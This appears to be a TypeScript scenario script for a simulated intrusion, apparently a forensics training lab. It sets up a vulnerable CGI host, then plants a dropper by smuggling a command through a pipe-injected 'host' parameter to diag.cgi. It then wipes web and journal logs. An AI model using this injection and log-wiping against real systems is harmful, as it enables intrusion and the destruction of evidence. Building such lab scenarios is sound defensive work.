// What is left: the control group of fcgiwrap and the account of the files.
import { vulnerableCgi } from '../../cgi.ts'
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { ordinary } from '../../past.ts'
import type { Stage } from '../../stage.ts'
import { wipe } from '../../wiping.ts'

export function dress(dress: Dress): void {
  vulnerableCgi(dress)
  dress.logins(ordinary)
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/var/tmp/.sess/lighttpd-d', cron: false })
  stage.mark('occurrence')
  await stage.http('203.0.113.52', `/cgi-bin/diag.cgi?host=127.0.0.1%7C${line.replaceAll(' ', '+').replaceAll('|', '%7C')}`)
  await wipe(stage, ['web', 'journal'])
}
